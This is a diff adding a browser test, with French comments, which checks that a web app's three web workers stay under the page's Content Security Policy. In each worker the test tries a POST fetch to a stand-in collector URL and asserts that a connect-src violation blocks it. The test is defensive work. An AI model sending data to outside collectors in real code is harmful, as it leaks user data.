@@ -46,3 +46,39 @@ test('la build n’autorise aucun script en ligne sauf le sien, ni base ni formu
   assert.equal(sent, 'refusé');
   await context.close();
 });
+
+test('chaque worker (analyse, second worker, paniers) est sous la politique de la page : rien ne part vers un autre hôte', async () => {
+  const { context, page } = await bench.newPage('en-US');
+  await page.goto(bench.served.url);
+  await page.getByTestId('demo-button').click();
+  await page.getByTestId('kpi-customers').waitFor({ timeout: 60_000 });
+  // La page des paniers lance le worker des paniers.
+  await page.goto(`${bench.served.url}#/recommendations`);
+  await page.getByTestId('basket-summary').waitFor({ timeout: 60_000 });
+  // Les trois workers : celui d'analyse, le second (lecture à deux) et
+  // celui des paniers.
+  for (let waited = 0; page.workers().length < 3 && waited < 20_000; waited += 100) {
+    await page.waitForTimeout(100);
+  }
+  const seen = {};
+  for (const worker of page.workers()) {
+    const role = await worker.evaluate(() => self.PANIER_ROLE);
+    // Le refus vient de la politique (violation de connect-src), pas du réseau.
+    seen[role] = await worker.evaluate(
+      () =>
+        new Promise((resolve) => {
+          let violated = null;
+          self.addEventListener('securitypolicyviolation', (event) => {
+            violated = event.violatedDirective;
+          });
+          fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
+            () => resolve({ sent: true, violated }),
+            () => setTimeout(() => resolve({ sent: false, violated }), 50),
+          );
+        }),
+    );
+  }
+  const refused = { sent: false, violated: 'connect-src' };
+  assert.deepEqual(seen, { '': refused, helper: refused, miner: refused });
+  await context.close();
+});
